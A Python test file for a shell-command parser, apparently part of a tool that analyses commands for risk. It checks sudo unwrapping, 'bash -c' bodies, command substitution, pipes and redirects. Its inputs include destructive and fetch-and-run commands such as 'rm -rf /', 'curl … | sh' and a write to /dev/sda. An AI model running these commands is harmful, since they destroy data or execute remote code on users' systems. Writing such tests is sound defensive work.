"""First checks of the shell model: plain commands, wrappers, `bash -c`, `$(…)`, pipes, redirects."""

from __future__ import annotations

from dongle.shell.model import Redirect

from .helpers import argvs, model, one


def test_plain_command_and_list() -> None:
    assert argvs("ls -la && git status; echo hi") == [
        ("ls", "-la"),
        ("git", "status"),
        ("echo", "hi"),
    ]


def test_sudo_is_unwrapped_and_privileged() -> None:
    inv = one("sudo -u root -- git reset --hard", "git")
    assert inv.argv == ("git", "reset", "--hard")
    assert inv.wrappers == ("sudo",)
    assert inv.privileged


def test_bash_c_body_is_followed() -> None:
    inv = one("bash -lc 'rm -rf /'", "rm")
    assert inv.argv == ("rm", "-rf", "/")
    assert inv.depth == 1
    assert inv.via == ("bash -c",)


def test_command_substitution_is_followed() -> None:
    inv = one("echo $(rm -rf /home)", "rm")
    assert (inv.depth, inv.via) == (1, ("$()",))


def test_pipe_records_upstream() -> None:
    m = model("curl -s https://x.sh | sh")
    sh = next(i for i in m.invocations if i.name == "sh")
    assert sh.stdin_from == ("curl",)
    assert any("remote code piped into sh" in r for r in m.unresolved)


def test_redirect_recorded() -> None:
    inv = one("echo x > /dev/sda", "echo")
    assert inv.redirects == (Redirect(">", "/dev/sda"),)
